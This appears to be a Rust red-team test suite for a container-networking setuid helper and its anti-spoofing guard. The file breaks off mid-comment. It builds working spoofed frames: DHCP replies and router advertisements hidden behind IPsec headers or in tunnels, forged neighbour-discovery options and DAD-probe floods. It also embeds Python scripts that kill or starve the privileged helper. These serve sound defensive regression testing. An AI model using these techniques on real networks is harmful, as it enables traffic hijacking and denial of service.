//! Red-team attacks on the guard (requirement 18, S1) and its neighbours,
//! end to end against the installed setuid helper. Each test is one
//! attack; a test that FAILS is a finding (see the report in SECURITY.md's
//! attack list), a test that passes is a regression test for an attack
//! that did not work.
//!
//! The attacker is nsg-b's container (10.10.10.4, MAC 02:6e:0a:0a:0a:04)
//! on a `guard=yes` network, root in its own user and network namespace;
//! the victim is nsg-a's container (10.10.10.2) on the same bridge. Frames
//! are sent on a raw packet socket inside the attacker's namespace and
//! looked for, by a marker, with raw sockets in the victim's namespace, on
//! the bridge and at the attacker's host end (which proves they were sent).

use std::collections::BTreeSet;
use std::time::Duration;

use netsetgo_e2e::checks::wire;
use netsetgo_e2e::dhcp::Client;
use netsetgo_e2e::fixtures::{world_with, A, B, GATEWAY};
use netsetgo_e2e::frames::{
    self, container_mac, contains, ether, ip, ipv4_packet, ipv6, link_local, mac_text,
    router_advertisement, udp, with_checksum6, ALL_NODES, ALL_NODES_MAC, BROADCAST,
};
use netsetgo_e2e::{require_root, time_scale, Container, World};
use serde_json::Value;

const ATTACKER: u8 = 4;
const VICTIM: u8 = 2;

/// An IPv4 packet (no options, not fragmented) of protocol `proto`.
fn ipv4(src: [u8; 4], dst: [u8; 4], proto: u8, payload: &[u8]) -> Vec<u8> {
    ipv4_packet(src, dst, proto, 0x1234, 0x4000, payload)
}

/// An IPsec authentication header (RFC 4302) with no ICV: 12 bytes,
/// `next` after it.
fn auth_header(next: u8, rest: &[u8]) -> Vec<u8> {
    // payload len = (12 / 4) - 2 = 1; SPI 0x100; sequence 1.
    let mut p = vec![next, 1, 0, 0, 0, 0, 1, 0, 0, 0, 0, 1];
    p.extend_from_slice(rest);
    p
}

/// A GRE header (no options) carrying EtherType `proto`.
fn gre(proto: u16, rest: &[u8]) -> Vec<u8> {
    let mut p = vec![0, 0];
    p.extend_from_slice(&proto.to_be_bytes());
    p.extend_from_slice(rest);
    p
}

fn marker(n: u8) -> Vec<u8> {
    frames::marker(b"NSGREDTM", n)
}

/// The victim (nsg-a, .2) and the attacker (nsg-b, .4, after a peer of
/// nsg-a at .3) on `network default`, `keys` added to its line.
struct Lab {
    world: World,
    victim: Container,
    _peer: Container,
    attacker: Container,
    attacker_host: String,
}

fn lab(keys: &str) -> Lab {
    let world = world_with(&format!(
        "network default bridge=brg0 gateway=10.10.10.1/24{keys}\n\
         allow nsg-a default 8\n\
         allow nsg-b default 4\n"
    ));
    let victim = world.container(A);
    assert_eq!(wire(&world, &victim).ip(), "10.10.10.2");
    let peer = world.container(A);
    assert_eq!(wire(&world, &peer).ip(), "10.10.10.3");
    let attacker = world.container(B);
    let w = wire(&world, &attacker);
    assert_eq!(w.ip(), "10.10.10.4");
    assert!(
        attacker.pings(GATEWAY),
        "the attacker cannot reach the gateway"
    );
    assert!(
        victim.pings("10.10.10.4"),
        "the victim cannot reach the attacker"
    );
    Lab {
        world,
        victim,
        _peer: peer,
        attacker,
        attacker_host: w.host,
    }
}

/// Where frames were seen: label → the points that saw it.
type Seen = Vec<(String, BTreeSet<&'static str>)>;

const SENT: &str = "the attacker's host end";
const BRIDGE: &str = "the bridge";
const VICTIM_NS: &str = "the victim";

/// Sends each frame (twice) from the attacker's namespace and reports
/// where each was seen.
fn send(lab: &Lab, frames: &[(String, Vec<u8>, Vec<u8>)]) -> Seen {
    let points: Vec<(&'static str, Client)> = vec![
        (SENT, Client::on(lab.world.pid(), &lab.attacker_host)),
        (BRIDGE, Client::on(lab.world.pid(), "brg0")),
        (VICTIM_NS, Client::on(lab.victim.pid(), "veth1")),
    ];
    let sender = Client::on(lab.attacker.pid(), "veth1");
    for _ in 0..2 {
        for (_, frame, _) in frames {
            sender.send_frame(frame);
        }
    }
    let wait = Duration::from_millis(700) * time_scale();
    let received: Vec<(&'static str, Vec<Vec<u8>>)> = points
        .iter()
        .map(|(name, sniffer)| (*name, sniffer.frames(wait)))
        .collect();
    frames
        .iter()
        .map(|(label, _, m)| {
            let at = received
                .iter()
                .filter(|(_, got)| got.iter().any(|f| contains(f, m)))
                .map(|(name, _)| *name)
                .collect();
            (label.clone(), at)
        })
        .collect()
}

/// Frames that are, or carry, a router advertisement, a DHCP or DHCPv6
/// reply, or a packet from another's address, each from the attacker's
/// own MAC and own address on the outside: hidden behind an IPsec
/// authentication header (the guard's `meta l4proto` stops at AH for
/// IPv6 and is AH for IPv4, so its UDP and ICMPv6 rules never see what
/// follows) or inside a tunnel (IPv4-in-IPv4, GRE, IPv6-in-IPv4: a
/// non-UDP protocol from its own address is accepted whatever it carries).
fn smuggled(n0: u8) -> Vec<(String, Vec<u8>, Vec<u8>)> {
    let me = container_mac(ATTACKER);
    let my_ll = link_local(me);
    let victim_ll = link_local(container_mac(VICTIM));
    let gateway_ll = link_local([0x02, 0, 0, 0, 0, 1]);
    let mut out = Vec::new();
    let mut n = n0;
    let mut push = |label: &str, make: &dyn Fn(&[u8]) -> Vec<u8>| {
        let m = marker(n);
        n += 1;
        out.push((label.to_string(), make(&m), m));
    };
    // Controls: the same payloads without the wrapper, which the guard drops.
    push("control: a router advertisement", &|m| {
        let ra = with_checksum6(my_ll, ALL_NODES, 58, router_advertisement(m), 2);
        ether(ALL_NODES_MAC, me, 0x86dd, &ipv6(my_ll, ALL_NODES, 58, &ra))
    });
    push("control: a DHCP reply", &|m| {
        ether(
            BROADCAST,
            me,
            0x0800,
            &ipv4(ip(ATTACKER), [255; 4], 17, &udp(67, 68, m)),
        )
    });
    push("control: a DHCPv6 reply", &|m| {
        let u = with_checksum6(my_ll, victim_ll, 17, udp(547, 546, m), 6);
        ether(
            container_mac(VICTIM),
            me,
            0x86dd,
            &ipv6(my_ll, victim_ll, 17, &u),
        )
    });
    // Behind an authentication header.
    push("a router advertisement behind AH", &|m| {
        let ra = with_checksum6(my_ll, ALL_NODES, 58, router_advertisement(m), 2);
        ether(
            ALL_NODES_MAC,
            me,
            0x86dd,
            &ipv6(my_ll, ALL_NODES, 51, &auth_header(58, &ra)),
        )
    });
    push("a DHCPv6 reply behind AH", &|m| {
        let u = with_checksum6(my_ll, victim_ll, 17, udp(547, 546, m), 6);
        ether(
            container_mac(VICTIM),
            me,
            0x86dd,
            &ipv6(my_ll, victim_ll, 51, &auth_header(17, &u)),
        )
    });
    push("a DHCP reply behind AH", &|m| {
        ether(
            BROADCAST,
            me,
            0x0800,
            &ipv4(
                ip(ATTACKER),
                [255; 4],
                51,
                &auth_header(17, &udp(67, 68, m)),
            ),
        )
    });
    // In tunnels: the inner packet is from the gateway's address.
    push("a DHCP reply from the gateway in IPv4-in-IPv4", &|m| {
        let inner = ipv4(ip(1), [255; 4], 17, &udp(67, 68, m));
        ether(
            container_mac(VICTIM),
            me,
            0x0800,
            &ipv4(ip(ATTACKER), ip(VICTIM), 4, &inner),
        )
    });
    push("a DHCP reply from the gateway in GRE", &|m| {
        let inner = ipv4(ip(1), [255; 4], 17, &udp(67, 68, m));
        ether(
            container_mac(VICTIM),
            me,
            0x0800,
            &ipv4(ip(ATTACKER), ip(VICTIM), 47, &gre(0x0800, &inner)),
        )
    });
    push(
        "a router advertisement from the gateway in IPv6-in-IPv4",
        &|m| {
            let ra = with_checksum6(gateway_ll, ALL_NODES, 58, router_advertisement(m), 2);
            let inner = ipv6(gateway_ll, ALL_NODES, 58, &ra);
            ether(
                container_mac(VICTIM),
                me,
                0x0800,
                &ipv4(ip(ATTACKER), ip(VICTIM), 41, &inner),
            )
        },
    );
    out
}

/// ATTACK: a router advertisement, a DHCP reply and a DHCPv6 reply that
/// the guard drops when bare get through it behind an IPsec
/// authentication header, and a DHCP reply or router advertisement from
/// the gateway's address gets through inside an IPv4, GRE or 6in4 tunnel
/// from the attacker's own address. Requirement 18 says "never UDP from
/// port 67 or 547 or to 68 or 546 ... never router advertisements"; the
/// receiving kernels drop these (no IPsec SA, no tunnel device), so the
/// harm depends on the victim (an IPsec SA with the attacker, a tunnel
/// device, a raw-socket client that skips AH): LOW.
#[test]
fn redteam_no_dhcp_reply_or_router_advertisement_passes_the_guard_behind_ah_or_in_a_tunnel() {
    require_root!();
    let lab = lab("");
    let frames = smuggled(0);
    let seen = send(&lab, &frames);
    let mut passed = Vec::new();
    for (label, at) in &seen {
        assert!(at.contains(SENT), "{label}: not even sent ({at:?})");
        if label.starts_with("control") {
            assert!(
                !at.contains(VICTIM_NS),
                "{label} reached the victim: the guard is off"
            );
        } else if at.contains(VICTIM_NS) {
            passed.push(label.clone());
        }
    }
    assert!(
        passed.is_empty(),
        "the guard let through to the victim's namespace: {passed:#?}"
    );
}

/// The same frames without the guard reach the victim (the twin that
/// shows the sniffing works).
#[test]
fn redteam_without_the_guard_smuggled_frames_arrive() {
    require_root!();
    let lab = lab(" guard=no");
    let seen = send(&lab, &smuggled(64));
    for (label, at) in &seen {
        assert!(
            at.contains(VICTIM_NS),
            "{label} did not arrive without the guard: {at:?}"
        );
    }
}

/// The link-local address of brg0 in the world.
fn bridge_link_local(world: &World) -> [u8; 16] {
    // Past its duplicate address detection: a tentative target is ignored.
    std::thread::sleep(Duration::from_millis(2500));
    let out = world.run(&[
        "ip", "-j", "-6", "addr", "show", "dev", "brg0", "scope", "link",
    ]);
    out.expect_success("ip -6 addr show dev brg0");
    let v: Value = serde_json::from_str(out.stdout.trim()).expect("json");
    let text = v[0]["addr_info"]
        .as_array()
        .and_then(|a| a.iter().find_map(|i| i["local"].as_str()))
        .unwrap_or_else(|| panic!("brg0 has no link-local address: {}", out.stdout))
        .to_string();
    text.parse::<std::net::Ipv6Addr>().unwrap().octets()
}

/// The world's neighbour entry (lladdr) for `address` on brg0.
fn host_lladdr(world: &World, address: &str) -> Option<String> {
    let out = world.run(&["ip", "-j", "-6", "neigh", "show", address, "dev", "brg0"]);
    let v: Value = serde_json::from_str(out.stdout.trim()).unwrap_or(Value::Null);
    v.as_array()?
        .iter()
        .find(|e| e["dst"] == address)?
        .get("lladdr")?
        .as_str()
        .map(str::to_string)
}

/// ATTACK: a neighbour solicitation from the attacker's own link-local
/// address whose source link-layer address option names another MAC (the
/// victim's). The guard checks ARP's sender MAC ("ARP only for its own MAC
/// and addresses") but not the link-layer options of neighbour discovery:
/// the host then sends what is meant for the attacker's address to the
/// victim's MAC (or, with ff:ff:ff:ff:ff:ff, to every port of the bridge,
/// isolated ones included). Only the attacker's own address is redirected,
/// so nobody else's traffic is taken: LOW.
#[test]
fn redteam_neighbour_discovery_cannot_tie_the_attackers_address_to_another_mac() {
    require_root!();
    // REDTEAM_KEYS=" guard=no" runs the twin: the same result, so the
    // solicitation is well formed and the guard does not look at it.
    let lab = lab(&std::env::var("REDTEAM_KEYS").unwrap_or_default());
    let me = container_mac(ATTACKER);
    let my_ll = link_local(me);
    let my_ll_text = std::net::Ipv6Addr::from(my_ll).to_string();
    let target = bridge_link_local(&lab.world);
    let forged = [0x02, 0x42, 0, 0, 0, 0x99];
    // Unicast, to the bridge's own MAC and link-local address.
    let bridge_mac = netsetgo_e2e::dhcp::mac_in(lab.world.pid(), "brg0");
    let mut ns = vec![135, 0, 0, 0, 0, 0, 0, 0];
    ns.extend_from_slice(&target);
    // Source link-layer address option: type 1, length 1 (8 bytes).
    ns.extend_from_slice(&[1, 1]);
    ns.extend_from_slice(&forged);
    let ns = with_checksum6(my_ll, target, 58, ns, 2);
    let frame = ether(bridge_mac, me, 0x86dd, &ipv6(my_ll, target, 58, &ns));
    let sender = Client::on(lab.attacker.pid(), "veth1");
    let seen = Client::on(lab.world.pid(), &lab.attacker_host);
    for _ in 0..3 {
        sender.send_frame(&frame);
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(
        seen.frames(Duration::from_millis(300))
            .iter()
            .any(|f| f == &frame),
        "the solicitation was not sent"
    );
    let entry = host_lladdr(&lab.world, &my_ll_text);
    eprintln!(
        "host entry for {my_ll_text}: {entry:?}; brg0: {}",
        lab.world
            .run(&["ip", "-6", "neigh", "show", "dev", "brg0"])
            .stdout
    );
    assert_ne!(
        entry.as_deref(),
        Some(mac_text(forged).as_str()),
        "the host now sends {my_ll_text}'s traffic to {}",
        mac_text(forged)
    );
}

/// Runs `argv` as root in `c`'s network namespace, which must succeed.
#[track_caller]
fn inside(c: &Container, argv: &[&str]) {
    let out = c.exec(argv);
    out.expect_success(&argv.join(" "));
}

/// NOT AN ATTACK THAT WORKED (regression): the container sends its frames
/// through an ifb device (`tc ... mirred egress redirect dev ifb0` on its
/// veth end, a u32 filter that leaves the frame alone when it comes back
/// from ifb0), which marks them `tc_skip_classify`; on the host end
/// `__netif_receive_skb_core` jumps over tc and netfilter ingress for such
/// frames. The mark is consumed on the way (6.18), so the guard still sees
/// every frame: a forged source gets nowhere, its own traffic flows.
#[test]
fn redteam_frames_bounced_through_ifb_still_pass_the_guard() {
    require_root!();
    let lab = lab("");
    let c = &lab.attacker;
    inside(c, &["ip", "link", "add", "ifb0", "type", "ifb"]);
    inside(c, &["ip", "link", "set", "ifb0", "up"]);
    inside(c, &["tc", "qdisc", "add", "dev", "veth1", "clsact"]);
    inside(
        c,
        &[
            "tc", "filter", "add", "dev", "veth1", "egress", "prio", "1", "u32", "match", "u32",
            "0", "0", "indev", "ifb0", "classid", "1:1",
        ],
    );
    inside(
        c,
        &[
            "tc", "filter", "add", "dev", "veth1", "egress", "prio", "2", "u32", "match", "u32",
            "0", "0", "action", "mirred", "egress", "redirect", "dev", "ifb0",
        ],
    );
    assert!(
        c.pings(GATEWAY),
        "through ifb0 the attacker's own traffic flows"
    );
    let me = container_mac(ATTACKER);
    let mut frames = Vec::new();
    for (n, (label, src, from)) in [
        ("control: IPv4 from itself", ip(ATTACKER), me),
        ("IPv4 as the victim", ip(VICTIM), me),
        (
            "IPv4 from another MAC",
            ip(ATTACKER),
            [2, 0x42, 0, 0, 0, 0x77],
        ),
        ("IPv4 as the gateway", ip(1), me),
    ]
    .into_iter()
    .enumerate()
    {
        let m = marker(100 + n as u8);
        let f = ether(
            BROADCAST,
            from,
            0x0800,
            &ipv4(src, [255; 4], 17, &udp(9, 9, &m)),
        );
        frames.push((label.to_string(), f, m));
    }
    let seen = send(&lab, &frames);
    for (label, at) in &seen {
        if label.starts_with("control") {
            // Sent through ifb0 and past the guard: the path works.
            assert!(at.contains(VICTIM_NS), "{label} did not arrive ({at:?})");
            continue;
        }
        assert!(
            !at.contains(VICTIM_NS),
            "{label}: passed the guard by way of ifb0 ({at:?})"
        );
        assert!(
            !at.contains(BRIDGE),
            "{label}: reached the bridge by way of ifb0 ({at:?})"
        );
    }
}

/// Whether a frame from the attacker with the victim's IPv4 address (from
/// the attacker's own MAC) reaches the victim's namespace.
fn forged_source_reaches_the_victim(lab: &Lab, n: u8) -> bool {
    let m = marker(n);
    let f = ether(
        BROADCAST,
        container_mac(ATTACKER),
        0x0800,
        &ipv4(ip(VICTIM), [255; 4], 17, &udp(9, 9, &m)),
    );
    let seen = send(lab, &[("IPv4 as the victim".into(), f, m)]);
    seen[0].1.contains(VICTIM_NS)
}

/// ATTACK (composition of two documented limits): a caller with a
/// delegated cgroup can freeze its helper while it holds a network's lock
/// (SECURITY.md: "a denial of service ... not an escalation"), and
/// `-restore` waits 10 s for each network's lock, then reports that
/// network and moves on; nothing runs it again. If the firewall is
/// reloaded while the lock is held, the network's guard chains (layer 3)
/// stay gone until root notices: every container on it, the attacker's
/// included, may then send from any address, answer DHCP and advertise
/// routes. Here root's `flock` on the network's map stands in for the
/// frozen helper (the lever itself needs systemd's user delegation).
/// Requirement 20 ("protections outlive the firewall"): MEDIUM.
#[test]
fn redteam_a_lock_held_across_a_firewall_reload_does_not_leave_the_network_unguarded() {
    require_root!();
    let lab = lab("");
    assert!(
        !forged_source_reaches_the_victim(&lab, 120),
        "the guard is not on to begin with"
    );
    let ino = lab.world.state_dir();
    let ino = ino.file_name().unwrap().to_string_lossy().to_string();
    let map = format!("/run/netsetgo/{ino}/brg0/map");
    let mut holder = lab.world.spawn(&["flock", "-x", &map, "sleep", "25"]);
    std::thread::sleep(Duration::from_millis(300));
    lab.world
        .run(&["nft", "flush", "ruleset"])
        .expect_success("nft flush ruleset in the world");
    // In the background: -restore now waits out the 25 s hold (it tries a
    // busy network again for about a minute), longer than the harness's
    // 20 s bound on a foreground call.
    let started = std::time::Instant::now();
    let restored = lab
        .world
        .start_netsetgo("root", &["-restore"])
        .finish(Duration::from_secs(90));
    let took = started.elapsed();
    holder.kill();
    let unguarded = forged_source_reaches_the_victim(&lab, 121);
    assert!(
        !unguarded,
        "-restore ({restored}) left the network unguarded after the lock was released: \
         the attacker's forged source reaches the victim"
    );
    assert!(
        restored.status.success() && restored.stdout.contains("restore: network default (brg0)"),
        "-restore did not restore the network once its lock was free: {restored}"
    );
    assert!(
        took > Duration::from_secs(20),
        "-restore took {took:?}: it cannot have waited for the lock held 25 s"
    );
}

/// ATTACK: duplicate address detection probes (neighbour solicitations
/// from `::`, which the guard lets through for any target) for the
/// link-local address the next container will have: its MAC, and so its
/// EUI-64 link-local address, follow from the next free IPv4 lease, which
/// anyone can predict. The victim's kernel takes the probe for another
/// node's DAD and marks its link-local address `dadfailed`. A denial of
/// IPv6 link-local service to other users' new containers: LOW.
#[test]
fn redteam_dad_probes_cannot_take_the_next_containers_link_local_address() {
    require_root!();
    let lab = lab(" gateway6=fd00:10::1/64");
    // The next lease is 10.10.10.5: its MAC and link-local address.
    let next_ll = link_local(container_mac(5));
    let mut group = [0xff, 0x02, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0xff, 0, 0, 0];
    group[13..].copy_from_slice(&next_ll[13..]);
    let group_mac = [0x33, 0x33, 0xff, next_ll[13], next_ll[14], next_ll[15]];
    let mut ns = vec![135, 0, 0, 0, 0, 0, 0, 0];
    ns.extend_from_slice(&next_ll);
    let ns = with_checksum6([0; 16], group, 58, ns, 2);
    let frame = ether(
        group_mac,
        container_mac(ATTACKER),
        0x86dd,
        &ipv6([0; 16], group, 58, &ns),
    );
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let flood = {
        let stop = stop.clone();
        let pid = lab.attacker.pid();
        std::thread::spawn(move || {
            let sender = Client::on(pid, "veth1");
            // Every 5 ms, for at most 20 s.
            for _ in 0..4000 {
                if stop.load(std::sync::atomic::Ordering::Relaxed) {
                    break;
                }
                sender.send_frame(&frame);
                std::thread::sleep(Duration::from_millis(5));
            }
        })
    };
    let newcomer = lab.world.container(A);
    let w = wire(&lab.world, &newcomer);
    assert_eq!(w.ip(), "10.10.10.5");
    // DAD takes about a second.
    std::thread::sleep(Duration::from_millis(2500));
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    flood.join().unwrap();
    let out = newcomer.exec(&["ip", "-6", "addr", "show", "dev", "veth1"]);
    eprintln!("newcomer: {}", out.stdout);
    assert!(
        !out.stdout.contains("dadfailed"),
        "the newcomer lost its link-local address to the attacker's probes:\n{}",
        out.stdout
    );
}

/// Fills the attacker's own namespace with `n` blackhole routes in table
/// 100 (root in its namespace may), in `ip -batch` runs of 100000.
fn fill_routes(c: &Container, n: u32) {
    let file = std::env::temp_dir().join(format!("redteam-routes-{}", std::process::id()));
    let mut start = 0;
    while start < n {
        let end = (start + 100_000).min(n);
        let mut text = String::with_capacity(100_000 * 40);
        for i in start..end {
            let a = std::net::Ipv4Addr::from(0x6400_0000u32 + i);
            text.push_str(&format!("route add blackhole {a}/32\n"));
        }
        std::fs::write(&file, text).unwrap();
        let out = c.exec(&["ip", "-batch", file.to_str().unwrap()]);
        out.expect_success("ip -batch");
        start = end;
    }
    let _ = std::fs::remove_file(&file);
}

/// ATTACK (requirement 16, no hostages, without a cgroup): `-check`
/// lists every route of the caller's container (all tables) and its
/// addresses while it holds the network's lock, as `_netsetgo`, so the
/// caller cannot stop it, but it chose how long it takes: a container
/// with a few hundred thousand routes (its own namespace, its own memory)
/// makes each `-check` hold the lock for seconds, and calls in a row keep
/// another user's call waiting (and `-restore` failing after 10 s, which
/// leaves the network unguarded after a firewall reload: see
/// `redteam_a_lock_held_across_...`). The bound SECURITY.md gives is 1 s.
#[test]
fn redteam_a_container_full_of_routes_cannot_make_check_hold_the_lock() {
    require_root!();
    let lab = lab("");
    let n: u32 = std::env::var("REDTEAM_ROUTES")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(600_000);
    let t = std::time::Instant::now();
    fill_routes(&lab.attacker, n);
    eprintln!("{n} routes in {:?}", t.elapsed());
    let pid = lab.attacker.pid_arg();
    let t = std::time::Instant::now();
    let out = lab.world.netsetgo(B, &["-check", "-pid", &pid]);
    let alone = t.elapsed();
    eprintln!("-check alone: {alone:?}: {out}");
    // Six checks at once, and meanwhile another user wires a container.
    let mut checks: Vec<_> = (0..6)
        .map(|_| lab.world.start_netsetgo(B, &["-check", "-pid", &pid]))
        .collect();
    std::thread::sleep(Duration::from_millis(100));
    let newcomer = lab.world.container(A);
    let t = std::time::Instant::now();
    let wired = lab.world.netsetgo(A, &["-pid", &newcomer.pid_arg()]);
    let waited = t.elapsed();
    for c in &mut checks {
        let _ = c.finish(Duration::from_secs(120));
    }
    eprintln!("another user's call took {waited:?}: {wired}");
    assert!(
        waited < Duration::from_secs(1),
        "another user's call waited {waited:?} for the attacker's -check calls (one alone: {alone:?})"
    );
}

/// Run as the caller: starts the helper on a pseudo-terminal it controls
/// (the helper in the terminal's foreground process group), waits until
/// the helper has dropped to the system user, tries `kill -INT` (refused:
/// another uid), then types ^C into the terminal. Prints `kill-refused`
/// or `kill-allowed`, then `alive`, `signal N` or `exit N`.
const TTY_CALLER: &str = r#"
import os, sys, time, signal
binary, pid, how = sys.argv[1], sys.argv[2], sys.argv[3]
master, slave = os.openpty()
child = os.fork()
if child == 0:
    os.close(master)
    os.login_tty(slave)
    os.execv(binary, [binary, "-pid", pid])
os.close(slave)
me = str(os.getuid())
dropped = False
end = time.time() + 10
while time.time() < end and not dropped:
    try:
        with open(f"/proc/{child}/status") as f:
            for line in f:
                if line.startswith("Uid:") and line.split()[1] not in (me, "0"):
                    dropped = True
    except OSError:
        pass
    time.sleep(0.02)
print("dropped" if dropped else "not-dropped")
time.sleep(0.3)
try:
    os.kill(child, signal.SIGINT)
    print("kill-allowed")
except PermissionError:
    print("kill-refused")
if how == "hangup":
    os.close(master)
else:
    os.write(master, {"int": b"\x03", "quit": b"\x1c"}[how])
end = time.time() + 3
res = None
while time.time() < end:
    p, status = os.waitpid(child, os.WNOHANG)
    if p:
        res = status
        break
    time.sleep(0.02)
if res is None:
    print("alive")
elif os.WIFSIGNALED(res):
    print("signal", os.WTERMSIG(res))
else:
    print("exit", os.WEXITSTATUS(res))
sys.stdout.flush()
os._exit(0)
"#;

/// ATTACK (requirements 16 and 19): after the drop "the caller can neither
/// signal nor trace its helper", and the terminal's stop signals stay
/// ignored for that reason, but the terminal's other signals are sent
/// without a permission check too and are back to their defaults: a caller
/// that runs its helper on a pseudo-terminal it holds types ^C (SIGINT; ^\,
/// SIGQUIT, and closing the terminal, SIGHUP, work the same: checked with
/// REDTEAM_TTY=quit and =hangup) and its helper, already
/// `_netsetgo` and past the privileged stages, dies at the moment the
/// caller chose (here waiting for the network's lock; equally while
/// holding it). What a kill leaves is cleaned up by the next call (the
/// SIGKILL tests), so the effect is the broken guarantee plus whatever a
/// kill at the worst moment leaves: MEDIUM-LOW.
#[test]
fn redteam_the_caller_cannot_end_its_dropped_helper_through_its_terminal() {
    require_root!();
    let lab = lab("");
    let newcomer = lab.world.container(B);
    let ino = lab.world.state_dir();
    let ino = ino.file_name().unwrap().to_string_lossy().to_string();
    let map = format!("/run/netsetgo/{ino}/brg0/map");
    let mut holder = lab.world.spawn(&["flock", "-x", &map, "sleep", "20"]);
    std::thread::sleep(Duration::from_millis(300));
    let binary = netsetgo_e2e::installed_binary()
        .to_string_lossy()
        .into_owned();
    // REDTEAM_TTY=quit types ^\ (SIGQUIT), =hangup closes the terminal
    // (SIGHUP); ^C (SIGINT) by default.
    let how = std::env::var("REDTEAM_TTY").unwrap_or_else(|_| "int".into());
    let out = lab.world.run_as(
        B,
        &[
            "python3",
            "-c",
            TTY_CALLER,
            &binary,
            &newcomer.pid_arg(),
            &how,
        ],
    );
    holder.kill();
    eprintln!("{out}");
    assert!(
        out.stdout.contains("dropped\n"),
        "the helper never dropped: {out}"
    );
    assert!(
        out.stdout.contains("kill-refused"),
        "kill(2) itself worked: {out}"
    );
    assert!(
        !out.stdout.contains("signal"),
        "^C on the caller's terminal ended the helper after its drop: {out}"
    );
}

/// Run as the caller: two busy loops of its own on CPU 0, then its helper;
/// while the helper still has the caller's real uid (stages 5 to 9, after
/// `restrict` reset the timing) it is set to SCHED_IDLE on CPU 0, over
/// and over, until the kernel refuses (the drop). Writes to `out`: the
/// number of settings that landed, the helper's uid, policy (field 41 of
/// `stat`, 5 = SCHED_IDLE) and CPUs after the drop, and how long the
/// helper ran.
const SCHED_CALLER: &str = r#"
import os, sys, time
binary, pid, out = sys.argv[1], sys.argv[2], sys.argv[3]
start = time.time()
for i in range(2):
    if os.fork() == 0:
        os.sched_setaffinity(0, {0})
        end = time.time() + 4
        while time.time() < end:
            pass
        os._exit(0)
child = os.fork()
if child == 0:
    os.execv(binary, [binary, "-pid", pid])
hits = 0
end = time.time() + 5
while time.time() < end:
    try:
        os.sched_setscheduler(child, os.SCHED_IDLE, os.sched_param(0))
        os.sched_setaffinity(child, {0})
        hits += 1
    except (PermissionError, ProcessLookupError):
        break
report = [f"hits {hits}"]
# Until the helper has dropped (it then waits for the lock root holds).
end = time.time() + 8
while time.time() < end:
    try:
        uid = [l for l in open(f"/proc/{child}/status") if l.startswith("Uid:")][0].split()[1]
    except OSError:
        break
    if uid not in (str(os.getuid()), "0"):
        break
    time.sleep(0.01)
try:
    stat = open(f"/proc/{child}/stat").read().rsplit(")", 1)[1].split()
    report.append(f"policy {stat[38]}")
    for line in open(f"/proc/{child}/status"):
        if line.startswith(("Uid:", "Cpus_allowed_list:")):
            report.append(" ".join(line.split()))
except OSError as e:
    report.append(f"gone {e}")
os.waitpid(child, 0)
report.append(f"helper took {time.time() - start:.3f}")
open(out, "w").write("\n".join(report) + "\n")
os._exit(0)
"#;

/// NOT AN ATTACK THAT WORKED (regression, requirement 16): `restrict`
/// (stage 4) puts the scheduling policy, CPUs and nice back, but until the
/// drop (stage 10) the helper's real uid is still the caller's, and
/// `sched_setscheduler`, `sched_setaffinity` and `setpriority` let a
/// caller act on a process whose real uid is its own. A caller that sets
/// SCHED_IDLE and one busy CPU over and over while its helper runs would
/// land a setting in stages 5 to 9 that outlives the drop. It does not:
/// the capability hook (`cap_safe_nice`) refuses while the helper's
/// permitted set is not a subset of the caller's, i.e. from the exec on.
/// The helper is checked after its drop (waiting for a lock root holds).
#[test]
fn redteam_the_timing_reset_holds_after_the_drop() {
    require_root!();
    let lab = lab("");
    let newcomer = lab.world.container(B);
    let binary = netsetgo_e2e::installed_binary()
        .to_string_lossy()
        .into_owned();
    let out = std::env::temp_dir().join(format!("redteam-sched-{}", std::process::id()));
    let _ = std::fs::remove_file(&out);
    std::fs::write(&out, "").unwrap();
    let ino = lab.world.state_dir();
    let ino = ino.file_name().unwrap().to_string_lossy().to_string();
    let map = format!("/run/netsetgo/{ino}/brg0/map");
    let mut holder = lab.world.spawn(&["flock", "-x", &map, "sleep", "3"]);
    std::thread::sleep(Duration::from_millis(300));
    let _ = std::process::Command::new("chmod")
        .args(["666", out.to_str().unwrap()])
        .status();
    let mut script = lab.world.spawn_as(
        B,
        &[
            "python3",
            "-c",
            SCHED_CALLER,
            &binary,
            &newcomer.pid_arg(),
            out.to_str().unwrap(),
        ],
    );
    let ok = netsetgo_e2e::wait_until(Duration::from_secs(20), Duration::from_millis(50), || {
        std::fs::read_to_string(&out).is_ok_and(|s| s.contains("took"))
    });
    script.kill();
    holder.kill();
    let report = std::fs::read_to_string(&out).unwrap_or_default();
    let _ = std::fs::remove_file(&out);
    eprintln!("{report}");
    assert!(ok, "the caller's script did not finish: {report}");
    assert!(
        report.contains("Uid: 999") || report.contains("Uid:"),
        "{report}"
    );
    assert!(
        !report.contains("policy 5") && !report.contains("Cpus_allowed_list: 0\n"),
        "the caller's SCHED_IDLE outlived the helper's drop:\n{report}"
    );
}

/// Run in the attacker's namespace: one UDP datagram from 10.10.10.4 to
/// the victim, 2400 bytes of data, sent with a `virtio_net_hdr` asking for
/// UDP fragmentation offload (gso_type 3, gso_size 1000) on a
/// PACKET_VNET_HDR socket; the data puts 0x0044 where the second
/// fragment's "UDP destination port" would be.
const UFO_SENDER: &str = r#"
import socket, struct, sys
victim, mac = bytes.fromhex(sys.argv[1]), bytes.fromhex(sys.argv[2])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
s.setsockopt(263, 15, 1)  # SOL_PACKET, PACKET_VNET_HDR
s.bind(("veth1", 0))
mss = 1000
data = bytearray(2400)
data[mss - 8 + 2:mss - 8 + 4] = b"\x00\x44"
data[100:116] = b"NSGREDTM-UFO-1st"
udp = struct.pack("!HHHH", 1234, 9999, 8 + len(data), 0) + bytes(data)
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0x4242, 0, 64, 17, 0,
                 bytes([10, 10, 10, 4]), bytes([10, 10, 10, 2]))
total = sum(int.from_bytes(ip[i:i + 2], "big") for i in range(0, 20, 2))
while total >> 16:
    total = (total & 0xffff) + (total >> 16)
ip = ip[:10] + struct.pack("!H", ~total & 0xffff) + ip[12:]
frame = victim + mac + b"\x08\x00" + ip + udp
vnet = struct.pack("<BBHHHH", 0, 3, 14 + 20 + 8, mss, 0, 0)
for _ in range(2):
    s.send(vnet + frame)
print("sent")
"#;

/// NOT AN ATTACK THAT WORKED (regression): a UFO super-packet (UDP
